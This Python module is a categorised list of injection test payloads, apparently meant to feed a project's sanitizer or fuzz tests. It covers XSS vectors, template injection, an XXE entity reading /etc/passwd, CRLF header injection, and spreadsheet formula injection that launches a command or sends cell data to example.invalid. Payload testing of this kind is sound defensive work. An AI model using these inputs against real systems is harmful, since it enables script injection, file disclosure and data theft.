"""Texts that would act where they are taken for more than text, by what they hope for; one that runs marks the window.

Written for this project after the families everybody knows; `CALL` is what each wants to have run.
"""

from collections.abc import Iterator
from itertools import cycle

CALL = "window.__xss=1"

TAGS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT\t>",
    f"</title></textarea></style></script><script>{CALL}</script>",
    f"<script/x>{CALL}//",
    f"--><script>{CALL}</script><!--",
    f"<!--><script>{CALL}</script-->",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script\x0c>{CALL}</script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
)
"""An element of their own."""

HANDLERS = (
    f"<img src=x onerror={CALL}>",
    f"<img/src=`x`onerror={CALL}//",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<a tabindex=1 onfocus={CALL} autofocus>x</a>",
    f"<p style=animation-name:x onanimationstart={CALL}>x",
    f"<xss onclick={CALL} style=position:fixed;inset:0>x</xss>",
)
"""An event that comes by itself, or at the first touch."""

ATTRIBUTES = (
    f'" onmouseover="{CALL}',
    f"' onmouseover='{CALL}",
    f'" autofocus onfocus={CALL} x="',
    f"x onfocus={CALL} autofocus",
    f'"><svg onload={CALL}>',
    f"'><svg onload={CALL}>",
    f"` onmouseover={CALL} `",
    f'"\tonpointerenter\t=\t"{CALL}"\tx="',
    f"&quot; onfocus=&quot;{CALL}&quot; autofocus x=&quot;",
)
"""A way out of the attribute that they stand in."""

ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"data:text/html,<script>opener.{CALL}</script>",
    f"//javascript:%0a{CALL}",
    f'<a href="javascript:{CALL}" id=x>x</a>',
    f"<base href='javascript:{CALL}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
)
"""To be a link's address, or to change where all of them lead."""

DRAWINGS = (
    f"<svg><script>{CALL}</script></svg>",
    f"</svg><script>{CALL}</script>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={CALL}>#x>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"</text><image href=x onerror={CALL} />",
)
"""A place in a drawing."""

STYLES = (
    f"</style><script>{CALL}</script>",
    f"x:expression({CALL})",
    f"}}*{{background:url(javascript:{CALL})}}",
    "<style>@import'//example.invalid/x.css';</style>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "\" style=\"background:url('//example.invalid/x.png')",
)
"""A sheet, or something that is fetched from elsewhere."""

TEMPLATES = (
    "{{ ''.__class__.__mro__ }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"<%= {CALL} %>",
    f"#{{{CALL}}}",
    "%(csrf_token)s {0.__init__.__globals__}",
)
"""A template that is worked out a second time."""

SCRIPTS = (
    f"';{CALL};//",
    f"\\';{CALL};//",
    f'"}};{CALL};//',
    f"</script><svg onload={CALL}>",
    f"\u2028{CALL}\u2029",
    f'{{"__proto__":{{"x":"{CALL}"}}}}',
    f"*/{CALL}/*",
)
"""A string inside a script, or inside JSON in a page."""

LETTERS = (
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"\u02bascript\u02ba\u2039img src=x onerror={CALL}\u203a",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"<\x00script>{CALL}</\x00script>",
    f"<img src=x one\x00rror={CALL}>",
    f"\u202e<script>{CALL}</script>\u2066gpj.exe\u2069",
    f"\ufeff<script>{CALL}</script>",
    f"\ud800<script>{CALL}</script>",
    f"\x1b]0;{CALL}\x07\x1b[2J<script>{CALL}</script>",
)
"""The same in another spelling, between invisible letters, or in a foreign direction."""

MUTATIONS = (
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style>",
    f"<svg></p><style><g title='</style><img src=x onerror={CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<template><script>{CALL}</script></template>",
    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
)
"""What becomes something else when a browser reads it a second time."""

DOCUMENTS = (
    f"]]><script>{CALL}</script><![CDATA[",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    f"<?xml-stylesheet href='javascript:{CALL}'?>",
    f"</title></item><item><title>x</title><link>javascript:{CALL}</link>",
    f"x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:javascript:{CALL}\r\n",
    f"x\r\nSet-Cookie: x={CALL}\r\n\r\n<script>{CALL}</script>",
)
"""The end of an entry in a feed, a calendar or a header."""

FORMULAS = (
    '=HYPERLINK("https://example.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    ' "=1+1',
    "%0A-3+3",
    ";=1+1",
    "\u200b=1+1",
)
"""What a spreadsheet would work out."""

PAYLOADS = (
    *TAGS, *HANDLERS, *ATTRIBUTES, *ADDRESSES, *DRAWINGS, *STYLES, *TEMPLATES, *SCRIPTS, *LETTERS, *MUTATIONS,
    *DOCUMENTS, *FORMULAS,
)  # fmt: skip


def from_place(number: int) -> Iterator[str]:
    """Yield all of them again and again, beginning at one."""
    start = number % len(PAYLOADS)
    return cycle((*PAYLOADS[start:], *PAYLOADS[:start]))
